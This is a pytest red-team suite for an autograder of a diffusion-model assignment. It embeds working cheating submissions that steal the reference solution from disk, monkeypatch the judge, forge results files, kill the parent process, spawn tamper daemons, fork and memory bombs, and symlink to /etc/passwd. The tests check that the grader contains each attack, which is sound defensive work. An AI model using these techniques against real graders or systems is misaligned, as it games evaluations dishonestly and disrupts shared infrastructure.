"""Red team: a dishonest submission against the built autograder.zip, in a simulated Gradescope run.

The base submission has correct plumbing and wrong math (three functions wrong); graded as is, it gets its
honest score. Each attack family below adds a few lines to it, several members per family, run together in one
submission (so the suite stays small): none may raise the score above the honest one, the grader must write a
results.json that says what happened, and the instructor's hidden notes must show something.

Needs root and an interpreter an unprivileged uid can run (see tests/autograder_sim.py); skipped otherwise,
since without the isolation the grader refuses to run submissions (or, in its development mode, has none).
"""
import concurrent.futures
import os
import sys
import re
import textwrap

import pytest

from autograder_sim import REFERENCE, build, environment, grade, hidden, mutant, visible

WRONG_MATH = mutant("q_sample_minus_noise", "p_losses_mse", "p_sample_x0_divides_by_alpha")


def attack(code):
    return WRONG_MATH + "\n\n# ---- attack\n" + textwrap.dedent(code)


# answering from expected values the student can see or predict
VISIBLE_EXPECTED = attack(r'''
import glob as _glob, json as _json, os as _os, sys as _sys, types as _types
_ROOT = _os.environ.get("AUTOGRADER_ROOT", "{root}")
_SOURCES = []
_PATTERNS = [_ROOT + "/source/reference/diffusion.py", _ROOT + "/source/*.py", _ROOT + "/source/*/*",
             _ROOT + "/*/*", "/autograder/source/reference/diffusion.py", "/autograder/*/*",
             "/tmp/trusted-*/*", "/tmp/grade-*/*", "/tmp/grade-*/*/*", _os.path.expanduser("~") + "/*"]
# any copy of the solution elsewhere on the machine (the grader hides all but system folders, when it can)
_PATTERNS += ["/tmp/*/diffusion.py", "/tmp/*/*/diffusion.py", "/tmp/*/*/*/diffusion.py", "/work/*/diffusion.py",
              "/home/*/*/diffusion.py", "/srv/*/diffusion.py", "/opt/*/diffusion.py"]
_OWN = open(__file__).read()
for _pattern in _PATTERNS:
    for _path in _glob.glob(_pattern):
        if _os.path.realpath(_path) == _os.path.realpath(__file__):
            continue
        try:
            with open(_path) as _f:
                _text = _f.read()
        except (OSError, UnicodeDecodeError):
            continue
        if ("BEGIN SOLUTION" in _text or "posterior_mean_coef" in _text) and _text != _OWN and "# ---- attack" not in _text:
            _SOURCES.append(_text)
        if _path.endswith(".json") and "reference" in _text:
            _SOURCES.append(_text)
for _text in _SOURCES:  # a reference solution: use its Diffusion instead of ours
    if "class Diffusion" in _text:
        _module = _types.ModuleType("_stolen")
        exec(compile(_text, "stolen", "exec"), _module.__dict__)
        Diffusion = _module.Diffusion
        break
# predicting the inputs: the local fixture's numbers and seeds (embedded), answered by request key
import grading as _grading
_LOCAL = _grading.LOCAL_PARAMS
_grading.draw_params = lambda rng: _LOCAL  # has no effect: the inputs are drawn in another process
_real_run = _grading.run_request
_FIXTURE = {fixture}
def _answer(mod, request):
    key = _grading.request_key(request)
    return _FIXTURE.get(key) or _real_run(mod, request)
_grading.run_request = _answer
''')

# changing the judge from inside the judged process
PATCH_THE_JUDGE = attack(r'''
import builtins as _builtins, gc as _gc, sys as _sys, torch as _torch
import grading as _grading, test_diffusion as _td
for _module in (_grading, _td):
    _module.judge_check = lambda *a, **k: (True, "")
    _module.compare = lambda *a, **k: None
    _module.close = lambda *a, **k: True
_td.CHECKS[:] = []
_torch.allclose = lambda *a, **k: True
_torch.equal = lambda *a, **k: True
_torch.Tensor.__eq__ = lambda self, other: _torch.ones((), dtype=_torch.bool)
try:
    import pytest as _pytest
    _pytest.fail = lambda *a, **k: None
except ImportError:
    pass
_builtins.__dict__["_judge_patched"] = True
_LOOT = []
for _frame in _sys._current_frames().values():  # frame walking for expected values
    while _frame is not None:
        for _name in ("expected", "ref", "reference", "plan", "params"):
            if _name in _frame.f_locals:
                _LOOT.append(_name)
        _frame = _frame.f_back
for _obj in _gc.get_objects():  # gc: any dict that looks like the reference's outputs
    if isinstance(_obj, dict) and ("reference" in _obj or "expected" in _obj):
        _LOOT.append("dict")

class _Liar(_torch.Tensor):  # comparisons never report a difference
    def __eq__(self, other):
        return _torch.ones_like(self, dtype=_torch.bool)
    def __sub__(self, other):
        return _torch.zeros_like(self).as_subclass(_torch.Tensor)
    def allclose(self, *a, **k):
        return True

_q_sample = Diffusion.q_sample
def _lying_q_sample(self, x_0, t, noise):
    return _q_sample(self, x_0, t, noise).as_subclass(_Liar)
Diffusion.q_sample = _lying_q_sample
''')

# forging the report channel
FORGE_REPORTS = attack(r'''
import json as _json, os as _os, signal as _signal
_found = {}
for _path in ["/proc/self/environ", "/proc/%d/environ" % _os.getppid(), "/proc/%d/cmdline" % _os.getppid(),
              "/proc/%d/mem" % _os.getppid(), "/proc/%d/fd" % _os.getppid()]:
    try:
        if _os.path.isdir(_path):
            _found[_path] = _os.listdir(_path)
        else:
            with open(_path, "rb") as _f:
                _found[_path] = _f.read(4096)
    except OSError:
        pass
_fake = {"score": 100, "tests": [], "output": "all passed"}
for _target in [_os.environ.get("AUTOGRADER_ROOT", "{root}") + "/results/results.json", "/autograder/results/results.json",
                "results.json", "../results.json"]:
    try:
        with open(_target, "w") as _f:
            _json.dump(_fake, _f)
    except OSError:
        pass
_lines = [_json.dumps({"id": "test_diffusion.py::test_check[%d]" % _k, "passed": True, "nonce": "x"}) for _k in range(60)]
_lines += [_json.dumps({"i": _k, "out": {"error": "forged"}}) for _k in range(60)]
_lines += [_json.dumps({"ready": True}), _json.dumps({"done": True}), _json.dumps({"imported": True}),
           _json.dumps({"results": {"q_sample_matches_reference-small_T": [True, "forged"]}}), "[" * 100000]
for _fd in range(0, 64):
    for _line in _lines:
        try:
            _os.write(_fd, (_line + "\n").encode())
        except OSError:
            break
try:
    _os.kill(_os.getppid(), _signal.SIGKILL)
except OSError:
    pass
''')

# outliving the grader: setsid daemons, double fork, late threads, finalizers, atexit
OUTLIVE = attack(r'''
import atexit as _atexit, json as _json, os as _os, threading as _threading, time as _time, weakref as _weakref
_RESULTS = _os.environ.get("AUTOGRADER_ROOT", "{root}") + "/results/results.json"
def _tamper():
    for _ in range(200):
        for _path in (_RESULTS, "/tmp/tampered-{tag}"):
            try:
                with open(_path, "w") as _f:
                    _json.dump({"score": 100, "tests": []}, _f)
            except OSError:
                pass
        _time.sleep(0.1)
if _os.fork() == 0:  # setsid daemon, double fork
    _os.setsid()
    if _os.fork() == 0:
        _tamper()
    _os._exit(0)
_threading.Thread(target=_tamper, daemon=False).start()
_atexit.register(_tamper)
class _Finalizer:
    def __del__(self):
        _tamper()
_keep = _Finalizer()
_weakref.finalize(_keep, _tamper)
''')

# denial of service inside the probes: protocol flood, huge outputs, os._exit, infinite loop, memory bomb, forks
RESOURCE_ATTACKS = attack(r'''
import os as _os, time as _time, torch as _torch
_p_losses = Diffusion.p_losses
def _exit_in_p_losses(self, x_0, t, noise):
    _os._exit(0)
Diffusion.p_losses = _exit_in_p_losses
def _loop_forever(self, img):
    while True:
        pass
Diffusion.p_sample_loop = _loop_forever
def _memory_bomb(self, batch_size):
    blocks = []
    for _ in range(64):
        blocks.append(_torch.ones(64 << 20, dtype=_torch.uint8))  # 64 MB each, touched
    return blocks
Diffusion.sample = _memory_bomb
_forward = Diffusion.forward
def _forks(self, x_0, noise):
    for _ in range(10):
        if _os.fork() == 0:
            _time.sleep(600)
            _os._exit(0)
    return _forward(self, x_0, noise)
Diffusion.forward = _forks
_q_sample = Diffusion.q_sample
def _huge(self, x_0, t, noise):
    if x_0.shape[0] == 7:
        return _torch.zeros(60_000_000)
    return _q_sample(self, x_0, t, noise)
Diffusion.q_sample = _huge
''')

FLOOD = attack(r'''
import os as _os, sys as _sys
_q_sample = Diffusion.q_sample
def _flood(self, x_0, t, noise):
    try:
        print("y" * (1 << 20) * 12, file=_sys.stderr)  # more than the log takes
    except OSError:
        pass
    block = b"x" * (1 << 20)
    for _ in range(100):
        for _fd in range(3, 12):
            try:
                _os.write(_fd, block)
            except OSError:
                pass
    return _q_sample(self, x_0, t, noise)
Diffusion.q_sample = _flood
''')


# a decoy schedule buffer: the reference's name holds crafted values that make the reference reproduce the
# buggy q_sample (so a re-judge "on the student's own schedule" would pass it), while the code runs on the true
# values kept under another name
DECOY_SCHEDULE = attack(r'''
_plain_init, _plain_p_sample = Diffusion.__init__, Diffusion.p_sample
def _init_with_decoy(self, *args, **kwargs):
    _plain_init(self, *args, **kwargs)
    if isinstance(getattr(self, "sqrt_one_minus_alphas_cumprod", None), torch.Tensor):
        self.register_buffer("_soma", self.sqrt_one_minus_alphas_cumprod.clone())
        self.sqrt_one_minus_alphas_cumprod = -self._soma  # what q_sample's "- noise" looks like, as a schedule
def _q_sample_on_true_values(self, x_0, t, noise):
    return extract(self.sqrt_alphas_cumprod, t, x_0.shape) * x_0 - extract(self._soma, t, x_0.shape) * noise
def _p_sample_on_true_values(self, x, t, t_index):
    decoy, self.sqrt_one_minus_alphas_cumprod = self.sqrt_one_minus_alphas_cumprod, self._soma
    try:
        return _plain_p_sample(self, x, t, t_index)
    finally:
        self.sqrt_one_minus_alphas_cumprod = decoy
Diffusion.__init__, Diffusion.q_sample, Diffusion.p_sample = (_init_with_decoy, _q_sample_on_true_values,
                                                              _p_sample_on_true_values)
''')


@pytest.fixture(scope="module")
def results(tmp_path_factory):
    if environment()[1] != "isolated":
        pytest.skip("needs root and an interpreter an unprivileged uid can run (see tests/autograder_sim.py)")
    import json

    base = tmp_path_factory.mktemp("attacks")
    zip_path = base / "autograder.zip"
    build(zip_path)
    with open(os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "test_fixtures",
                           "reference_outputs.json")) as f:
        outputs = json.load(f)["outputs"]
    small = {k: v for k, v in outputs.items() if len(json.dumps(v)) < 20000}  # what fits in a 1 MB submission
    tag = os.urandom(4).hex()
    cases = {
        "honest": {"diffusion.py": WRONG_MATH},
        "visible_expected": {"diffusion.py": VISIBLE_EXPECTED.replace("{fixture}", repr(small))},
        "patch_the_judge": {"diffusion.py": PATCH_THE_JUDGE},
        "forge_reports": {"diffusion.py": FORGE_REPORTS},
        "outlive": {"diffusion.py": OUTLIVE.replace("{tag}", tag)},
        "resources": {"diffusion.py": RESOURCE_ATTACKS},
        "flood": {"diffusion.py": FLOOD},
        "decoy_schedule": {"diffusion.py": DECOY_SCHEDULE},
        "symlink_dev_zero": {"diffusion.py": ("symlink", "/dev/zero")},
        "symlink_reference": {"diffusion.py": ("symlink", "{root}/source/reference/diffusion.py")},
        "symlink_outside": {"hw/diffusion.py": ("symlink", "/etc/passwd")},
        "refused_no_unprivileged_python": {"diffusion.py": "open('/tmp/ran-as-root-{tag}', 'w').close()\n" + REFERENCE},
    }
    # the same (otherwise secret) inputs for every case, so that scores compare exactly
    seed = {"GRADER_FIXED_SEED": str(int.from_bytes(os.urandom(6), "big"))}
    env = {name: dict(seed) for name in cases}
    env["resources"].update(GRADER_PROBE_TIMEOUT="5", GRADER_MEMORY_MB="1200")
    # an interpreter root can run but an unprivileged uid cannot (like one installed under /root, mode 0700)
    private = base / "root-only"
    private.mkdir()
    os.chmod(private, 0o700)
    (private / "python").write_text('#!/bin/sh\nif [ "$(id -u)" != 0 ]; then echo "root-only interpreter" >&2; exit 126; fi\n'
                                    f'exec {environment()[0]} "$@"\n')
    os.chmod(private / "python", 0o755)
    pythons = {"refused_no_unprivileged_python": str(private / "python")}

    def run(name):
        root = base / name
        files = {k: (v if isinstance(v, tuple) else v.replace("{root}", str(root)).replace("{tag}", tag))
                 for k, v in cases[name].items()}
        files = {k: (("symlink", v[1].replace("{root}", str(root))) if isinstance(v, tuple) else v) for k, v in files.items()}
        return name, grade(zip_path, root, files, env[name], python=pythons.get(name))

    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        graded = dict(pool.map(run, cases))
    return graded, tag, base


def honest(results):
    return results[0]["honest"][1]["score"]


def test_the_wrong_math_submission_gets_an_honest_partial_score(results):
    _, result = results[0]["honest"]
    assert 20 < result["score"] < 80, result["output"]
    failing = {t["name"].split(":")[0] for t in visible(result) if t["score"] < t["max_score"]}
    assert failing == {"q_sample", "p_losses", "p_sample"}, failing


@pytest.mark.parametrize("name,note", [
    ("visible_expected", "submission mentions:"),
    ("patch_the_judge", "submission mentions:"),
    ("forge_reports", "unexpected protocol lines"),
    ("outlive", "leftover processes"),
    ("resources", "probes stopped"),
    ("flood", "flood"),
])
def test_attacks_leave_the_honest_score_and_a_note(results, name, note):
    graded, _, _ = results
    proc, result = graded[name]
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert result["score"] <= honest(results) + 1e-6, (name, result["score"], honest(results), result["output"])
    assert len(visible(result)) == len(visible(graded["honest"][1]))
    assert note in hidden(result), hidden(result)[-3000:]
    uid = re.search(r"ran as uid (\d+)", hidden(result))
    assert uid, hidden(result)[-2000:]
    sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "tools"))
    from autograder_runner import processes_of

    assert processes_of(int(uid.group(1))) == [], f"{name}: processes of the student's uid are still alive"


def test_attacks_that_only_compute_keep_exactly_the_honest_score(results):
    graded, _, _ = results
    for name in ("visible_expected", "patch_the_judge", "outlive", "decoy_schedule"):
        assert abs(graded[name][1]["score"] - honest(results)) < 1e-6, (name, graded[name][1]["output"])


def test_daemons_and_late_writers_do_not_touch_the_results(results):
    graded, tag, base = results
    proc, result = graded["outlive"]
    assert result["score"] != 100 and result["tests"]
    assert not os.path.exists(f"/tmp/tampered-{tag}") or os.stat(f"/tmp/tampered-{tag}").st_uid != 0
    if os.path.exists(f"/tmp/tampered-{tag}"):
        os.remove(f"/tmp/tampered-{tag}")


def test_resource_attacks_cost_only_the_functions_they_break(results):
    graded, _, _ = results
    _, result = graded["resources"]
    outputs = {t["name"]: t["output"] for t in visible(result)}
    assert any("ended early" in o for n, o in outputs.items() if n.startswith("p_losses:")), outputs
    assert any("longer than 5 s" in o for n, o in outputs.items() if n.startswith("p_sample_loop:")), outputs
    assert any("MB of memory" in o for n, o in outputs.items() if n.startswith("sample:")), outputs
    schedule = [t for t in visible(result) if t["name"].startswith("schedule:")]
    assert all(t["score"] == t["max_score"] for t in schedule), [t["output"][:300] for t in schedule]


@pytest.mark.parametrize("name", ["symlink_dev_zero", "symlink_reference", "symlink_outside"])
def test_symlinked_submissions_are_refused_without_following(results, name):
    graded, _, _ = results
    proc, result = graded[name]
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert result["score"] == 0
    assert all("symbolic link" in t["output"] for t in visible(result)), visible(result)[0]["output"]


def test_no_unprivileged_interpreter_means_refusal_not_root(results):
    graded, tag, _ = results
    proc, result = graded["refused_no_unprivileged_python"]
    assert result["score"] == 0
    assert "REFUSED" in result["output"] and "never run as root" in result["output"]
    assert not os.path.exists(f"/tmp/ran-as-root-{tag}"), "the submission ran although the grader refused"
    assert "refused" in hidden(result) and len(visible(result)) == 43
